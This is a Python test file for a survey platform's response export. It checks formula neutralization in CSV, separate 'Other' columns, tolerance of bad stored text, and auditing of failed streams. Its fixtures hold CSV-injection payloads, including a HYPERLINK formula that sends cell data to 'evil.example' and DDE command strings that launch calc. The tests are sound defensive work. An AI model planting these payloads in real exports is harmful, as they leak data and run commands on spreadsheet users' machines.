"""What response exports do with hostile text: formulas neutralized in CSV, "Other" write-ins in
their own column (CSV and Parquet alike), text stored before the text rule written rather than
crashing, and a failure midway reported as one (an error on the stream, "failed" in the audit)."""

import csv
import io
from typing import Any

import pyarrow.parquet as pq
import pytest
from django.db import connection

from govcx.accounts.tests.api_helpers import api_get, token_for
from govcx.audit.models import Action, AuditEntry
from govcx.collection import exports
from govcx.collection.models import Response
from govcx.collection.tests.helpers import published_survey
from govcx.testing.factories import World, respond, signed_in

EXPORT = "/api/v1/responses/export"
FORMULAS = {
    "comment": '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "went_well__other": "+cmd|' /C calc'!A0",
}


def csv_rows(response: Any) -> list[dict[str, str]]:
    content = b"".join(response.streaming_content)
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def parquet_rows(response: Any) -> list[dict[str, Any]]:
    table = pq.read_table(io.BytesIO(b"".join(response.streaming_content)))
    rows: list[dict[str, Any]] = table.to_pylist()
    return rows


def test_formula_cells_are_neutralized_and_numbers_kept(world: World) -> None:
    survey = published_survey(world)
    respond(
        survey,
        {"trust": "1", "went_well": ["ease", "other"], **FORMULAS},
        location_code="@SUM(1+1)",
        page_url="-2+3+cmd|' /C calc'!A0",
    )
    respond(survey, {"trust": "0", "went_poorly": ["ease"], "comment": "-2"})
    screen = {"survey": str(survey.pk), "format": "csv"}
    for response in (
        api_get(EXPORT, token_for(world.owner), survey=survey.pk),
        signed_in(world.owner).get("/responses/export/", screen),
    ):
        first, second = csv_rows(response)
        assert first["comment"] == "'" + FORMULAS["comment"]
        assert first["went_well__other"] == "'" + FORMULAS["went_well__other"]
        assert first["location_code"] == "'@SUM(1+1)"
        assert first["page_url"] == "'-2+3+cmd|' /C calc'!A0"
        assert second["comment"] == "-2"  # a number, not a formula
    # Parquet is not opened by spreadsheets as formulas: the text is as stored.
    stored = parquet_rows(
        api_get(EXPORT, token_for(world.owner), survey=survey.pk, format="parquet")
    )
    assert stored[0]["comment"] == FORMULAS["comment"]


def test_other_write_ins_have_their_own_column_in_csv_and_parquet(world: World) -> None:
    survey = published_survey(world)
    respond(survey, {"trust": "1", "went_well": ["ease", "other"], "went_well__other": "Kind"})
    respond(survey, {"trust": "0", "went_poorly": ["other"], "went_poorly__other": "Slow"})
    table = csv_rows(api_get(EXPORT, token_for(world.owner), survey=survey.pk))
    header = list(table[0])
    for key in ("went_well", "went_poorly"):
        assert header[header.index(key) + 1] == f"{key}__other"
    assert [(r["went_well"], r["went_well__other"]) for r in table] == [
        ("ease;other", "Kind"),
        ("", ""),
    ]
    assert table[1]["went_poorly__other"] == "Slow"
    parquet = api_get(EXPORT, token_for(world.owner), survey=survey.pk, format="parquet")
    rows = parquet_rows(parquet)
    assert list(rows[0]) == header  # the same columns in the same order
    assert [r["went_well__other"] for r in rows] == ["Kind", ""]


@pytest.mark.skipif(connection.vendor == "postgresql", reason="PostgreSQL never stored such text")
def test_text_stored_before_the_rule_is_exported_not_fatal(world: World) -> None:
    survey = published_survey(world)
    old = respond(survey, {"trust": "1", "went_well": ["ease"]})
    Response.objects.filter(pk=old.pk).update(
        answers={"trust": "1", "went_well": ["ease"], "comment": "bad \ud800 and \x00 too"}
    )
    respond(survey, {"trust": "0", "went_poorly": ["ease"], "comment": "later"})
    table = csv_rows(api_get(EXPORT, token_for(world.owner), survey=survey.pk))
    assert [r["comment"] for r in table] == ["bad \ufffd and \x00 too", "later"]
    rows = parquet_rows(api_get(EXPORT, token_for(world.owner), survey=survey.pk, format="parquet"))
    assert [r["comment"] for r in rows] == ["bad \ufffd and \x00 too", "later"]
    finished = AuditEntry.objects.filter(action=Action.EXPORT_FINISHED)
    assert {entry.details["outcome"] for entry in finished} == {"completed"}


@pytest.mark.parametrize("format", ["csv", "parquet"])
def test_a_failure_midway_ends_the_stream_with_an_error_and_is_audited(
    world: World, monkeypatch: Any, format: str
) -> None:
    survey = published_survey(world)
    for comment in ("first", "breaks", "third"):
        respond(survey, {"trust": "1", "went_well": ["ease"], "comment": comment})
    real = exports.answer_text

    def failing(value: Any) -> str:
        if value == "breaks":
            raise RuntimeError("the database went away")
        return real(value)

    monkeypatch.setattr(exports, "answer_text", failing)
    response = api_get(EXPORT, token_for(world.owner), survey=survey.pk, format=format)
    assert response.status_code == 200  # sent before the first row is read
    with pytest.raises(RuntimeError):
        b"".join(response.streaming_content)
    finished = AuditEntry.objects.get(action=Action.EXPORT_FINISHED)
    assert (finished.details["outcome"], finished.details["completed"]) == ("failed", "False")
